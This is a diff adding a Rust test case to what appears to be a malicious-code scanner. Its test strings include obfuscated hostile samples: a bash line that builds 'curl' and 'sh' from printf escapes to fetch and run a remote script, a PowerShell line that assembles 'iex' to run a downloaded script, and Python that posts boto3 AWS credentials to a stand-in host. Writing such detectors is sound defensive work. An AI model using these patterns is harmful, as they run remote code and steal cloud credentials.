@@ -377,3 +377,34 @@ fn a_token_in_a_basic_auth_call_authenticates_the_request() {
     assert_severity(&ruby, "code.source-to-network", Medium);
     assert_not_flagged(&ruby);
 }
+
+/// Round two's forms: printf's own escapes in a substituted command word,
+/// PowerShell's format operator building a command's name, and an SDK's
+/// resolved credentials sent to a stranger.
+#[test]
+fn printf_escapes_format_operators_and_sdk_credentials_are_read_through() {
+    let printf = block(
+        "bash",
+        "$(printf '\\143\\165\\162\\154') -fsSL https://shim.example-cuda.dev/a | $(printf '\\163\\150')",
+    );
+    assert_hit(&printf, "code.normalized-command", CodeInjection, Critical, 4);
+    let format = block(
+        "powershell",
+        "$r = 'https://fix.example-patch.net/r.ps1'\n& (\"{1}{0}\" -f 'x','ie') (irm $r)",
+    );
+    assert_hit(&format, "code.folded-string", RemoteExecution, Critical, 5);
+    assert_not_flagged(&block(
+        "powershell",
+        "Write-Host (\"{0} of {1}: https://docs.example.com\" -f $i, $n)",
+    ));
+    let boto = block(
+        "python",
+        "session = boto3.Session()\ncreds = session.get_credentials().get_frozen_credentials()\nrequests.post(\"https://bot.example-pennies.app/i\", json={\"p\": creds._asdict()})",
+    );
+    assert_hit(&boto, "code.source-to-network", Exfiltration, Critical, 6);
+    let own = block(
+        "python",
+        "session = boto3.Session()\nce = session.client(\"ce\")\nprint(ce.get_cost_and_usage(TimePeriod=p))",
+    );
+    assert_not_flagged(&own);
+}
